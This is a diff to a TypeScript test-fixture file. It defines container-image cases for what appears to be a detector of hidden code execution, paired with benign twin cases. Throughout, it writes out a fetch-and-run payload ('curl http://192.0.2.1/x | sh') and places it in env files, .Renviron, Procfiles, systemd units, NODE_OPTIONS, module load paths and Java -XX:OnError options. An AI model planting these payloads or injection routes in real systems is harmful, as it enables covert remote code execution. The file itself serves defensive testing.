@@ -1,4 +1,4 @@
-import { type Files, type ImageCase, image } from './image-case.ts';
+import { program as elfProgram, type Files, type ImageCase, image } from './image-case.ts';
 
 const FETCH = 'curl http://192.0.2.1/x | sh';
 const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
@@ -288,7 +288,7 @@ const DATA_TWINS: readonly ImageCase[] = [
     'js',
     'const c = require("./package.json"); require("child_process").execSync("git rev-parse HEAD"); console.log(c.version)',
     {
-      'app/package.json': JSON.stringify({ version: '1.0.0', scripts: { tool: FETCH } }),
+      'app/package.json': JSON.stringify({ version: '1.0.0', homepage: FETCH }),
     },
   ),
   honestly('js', 'const c = require("./c.json"); console.log(c.x.y)', JSON_DATA),
@@ -307,6 +307,139 @@ const DATA_TWINS: readonly ImageCase[] = [
   ),
 ];
 
-export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE, ...SHOWN, ...DATA];
+const ENV_FILE: Files = { 'app/c.env': `# settings\nexport A=b\nJOB="${FETCH}"\n` };
+const DOT_ENV: Files = { 'app/.env': `JOB='${FETCH}'\n` };
+const RUNS_JOB_JS: Files = { 'app/a.js': 'require("child_process").execSync(process.env.JOB)\n' };
+const RUNS_JOB_PY: Files = { 'app/a.py': 'import os\nos.system(os.environ["JOB"])\n' };
+const R_JOB: Files = { 'app/a.R': 'system(Sys.getenv("JOB"))\n' };
 
-export const BY_SETTINGS_TWINS: readonly ImageCase[] = [...RELATIVE_TWINS, ...SHOWN_TWINS, ...DATA_TWINS];
+/** Variables that files tell programs, or those that start them. */
+const ENV_FILES: readonly ImageCase[] = [
+  found(['node', '--env-file=/app/c.env', '/app/a.js'], { ...RUNS_JOB_JS, ...ENV_FILE }),
+  found(['node', '--env-file-if-exists', 'c.env', '/app/a.js'], { ...RUNS_JOB_JS, ...ENV_FILE }),
+  found(['node', '-r', 'dotenv/config', '/app/a.js'], { ...RUNS_JOB_JS, ...DOT_ENV }),
+  found(['bun', 'run', '/app/a.js'], { ...RUNS_JOB_JS, ...DOT_ENV }),
+  found(['deno', 'run', '-A', '--env-file=c.env', '/app/a.ts'], {
+    'app/a.ts': 'new Deno.Command("sh", { args: ["-c", Deno.env.get("JOB")] }).outputSync();\n',
+    ...ENV_FILE,
+  }),
+  found(['uv', 'run', '--env-file', 'c.env', 'python', '/app/a.py'], { ...RUNS_JOB_PY, ...ENV_FILE }),
+  found(['pipenv', 'run', 'python', '/app/a.py'], { ...RUNS_JOB_PY, ...DOT_ENV }),
+  found(['dotenv', '-f', 'c.env', 'run', '--', 'python3', '/app/a.py'], { ...RUNS_JOB_PY, ...ENV_FILE }),
+  found(['dotenv', '-e', 'c.env', '--', 'sh', '-c', 'eval "$JOB"'], ENV_FILE),
+  found(['env-cmd', '-f', 'c.env', 'node', '/app/a.js'], { ...RUNS_JOB_JS, ...ENV_FILE }),
+  found(['honcho', '-e', 'c.env', 'start'], { 'app/Procfile': 'web: sh -c "$JOB"\n', ...ENV_FILE }),
+  found(['foreman', 'start'], { 'app/Procfile': 'web: sh -c "$JOB"\n', ...DOT_ENV }),
+  found(['envdir', '/app/env', 'sh', '-c', 'eval "$JOB"'], { 'app/env/JOB': `${FETCH}\n` }),
+  found(['chpst', '-e', '/app/env', 'sh', '-c', 'eval "$JOB"'], { 'app/env/JOB': `${FETCH}\n` }),
+  found(['node', '--env-file=c.env', '/app/a.js'], {
+    'app/a.js': 'console.log(1)\n',
+    'app/c.env': 'NODE_OPTIONS=--require=/app/b.js\n',
+    'app/b.js': `require("child_process").execSync("${FETCH}")\n`,
+  }),
+  found(['/lib/systemd/systemd'], {
+    'lib/systemd/systemd': elfProgram(),
+    'etc/systemd/system/a.service':
+      '[Service]\nEnvironmentFile=-/app/c.env\nExecStart=/usr/bin/python3 /app/a.py\n[Install]\nWantedBy=multi-user.target\n',
+    'etc/systemd/system/default.target': '[Unit]\nWants=a.service\n',
+    ...RUNS_JOB_PY,
+    ...ENV_FILE,
+  }),
+  found(['Rscript', '/app/a.R'], { ...R_JOB, 'app/.Renviron': `JOB="${FETCH}"\n` }),
+  found(['Rscript', '/app/a.R'], { ...R_JOB, 'srv/renv': `JOB="${FETCH}"\n` }, ['R_ENVIRON=/srv/renv']),
+];
+
+const ENV_FILE_TWINS: readonly ImageCase[] = [
+  honest(['node', '--env-file=/app/c.env', '/app/a.js'], {
+    'app/a.js': 'require("child_process").execFileSync("git", ["status"]); console.log(process.env.NOTE)\n',
+    'app/c.env': `PORT=80\nNOTE="see http://192.0.2.1/x | docs"\n`,
+  }),
+  honest(['dotenv', 'run', '--', 'gunicorn', 'app:app'], {
+    'app/app.py': 'import os\napp = os.environ["URL"]\n',
+    'app/.env': 'URL=http://192.0.2.1/x\nCMD=gunicorn app:app\n',
+  }),
+  honest(['chpst', '-e', '/app/env', 'sh', '-c', 'echo "$JOB"; exec app'], { 'app/env/JOB': `${FETCH}\n` }),
+];
+
+const EL = `(shell-command "${FETCH}")\n`;
+const R_CODE = `system("${FETCH}")\n`;
+const ON_ERROR = `-XX:OnError="${FETCH}"\n`;
+const JAVA = `class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(new String[]{"sh", "-c", "${FETCH}"}); } }\n`;
+
+/** Modules and options that variables, options and statements of other languages lead to. */
+const MODULES: readonly ImageCase[] = [
+  found(['Rscript', '/app/a.R'], { 'app/a.R': 'library(zed)\n', 'srv/r/zed/R/zed.R': R_CODE }, [
+    'R_LIBS=/opt/r:/srv/r',
+  ]),
+  found(
+    ['Rscript', '/app/a.R'],
+    { 'app/a.R': '1\n', 'srv/renv': 'R_PROFILE_USER=/srv/rp\n', 'srv/rp': R_CODE },
+    ['R_ENVIRON=/srv/renv'],
+  ),
+  found(
+    ['julia', '/app/a.jl'],
+    { 'app/a.jl': 'using Zed\n', 'srv/j/Zed.jl': `run(\`sh -c "${FETCH}"\`)\n` },
+    ['JULIA_LOAD_PATH=/srv/j'],
+  ),
+  found(['emacs', '--batch', '-l', '/app/a.el'], { 'app/a.el': "(require 'zed)\n", 'srv/e/zed.el': EL }, [
+    'EMACSLOADPATH=/srv/e',
+  ]),
+  found(['emacs', '--batch', '-L', '/srv/e', '-l', '/app/a.el'], {
+    'app/a.el': "(require 'zed)\n",
+    'srv/e/zed.el': EL,
+  }),
+  found(['emacs', '--batch', '-l', '/app/a.el'], { 'app/a.el': "(require 'zed)\n", 'app/zed.el': EL }),
+  found(
+    ['tclsh', '/app/a.tcl'],
+    { 'app/a.tcl': 'package require zed\n', 'srv/t/zed.tcl': `exec sh -c "${FETCH}"\n` },
+    ['TCLLIBPATH=/srv/t'],
+  ),
+  found(['pwsh', '-File', '/app/a.ps1'], { 'app/a.ps1': '. ./b.ps1\n', 'app/b.ps1': `sh -c "${FETCH}"\n` }),
+  found(['elixir', '/app/a.exs'], {
+    'app/a.exs': 'Code.require_file("b.exs")\n',
+    'app/b.exs': `System.cmd("sh", ["-c", "${FETCH}"])\n`,
+  }),
+  found(['groovy', '/app/a.groovy'], {
+    'app/a.groovy': 'evaluate(new File("/app/b.groovy"))\n',
+    'app/b.groovy': `["sh", "-c", "${FETCH}"].execute()\n`,
+  }),
+  found(['java', '/app/A.java'], { 'app/A.java': JAVA }),
+  found(['java', '--source', '21', '/app/logo.txt'], { 'app/logo.txt': JAVA }),
+  found(['java', '-jar', '/app/b.jar'], { 'app/args': ON_ERROR, 'app/b.jar': 'PK' }, [
+    'JDK_JAVA_OPTIONS=@/app/args',
+  ]),
+  found(['java', '-XX:VMOptionsFile=/app/vo', '-jar', '/app/b.jar'], {
+    'app/vo': ON_ERROR,
+    'app/b.jar': 'PK',
+  }),
+];
+
+const MODULE_TWINS: readonly ImageCase[] = [
+  honest(
+    ['Rscript', '/app/a.R'],
+    { 'app/a.R': 'library(zed)\n', 'srv/r/zed/R/zed.R': `# ${FETCH}\nzed <- function() 1\n` },
+    ['R_LIBS=/srv/r'],
+  ),
+  honest(['java', '/app/A.java'], {
+    'app/A.java': `class A { public static void main(String[] a) { System.out.println("${FETCH}"); } }\n`,
+  }),
+  honest(
+    ['java', '-jar', '/app/b.jar'],
+    { 'app/args': '-Xmx1g -XX:+ExitOnOutOfMemoryError\n', 'app/b.jar': 'PK' },
+    ['JDK_JAVA_OPTIONS=@/app/args'],
+  ),
+  honest(['emacs', '--batch', '-L', '/srv/e', '-l', '/app/a.el'], {
+    'app/a.el': "(require 'zed)\n",
+    'srv/e/zed.el': `;; ${FETCH}\n(provide 'zed)\n`,
+  }),
+];
+
+export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE, ...SHOWN, ...DATA, ...ENV_FILES, ...MODULES];
+
+export const BY_SETTINGS_TWINS: readonly ImageCase[] = [
+  ...RELATIVE_TWINS,
+  ...SHOWN_TWINS,
+  ...DATA_TWINS,
+  ...ENV_FILE_TWINS,
+  ...MODULE_TWINS,
+];
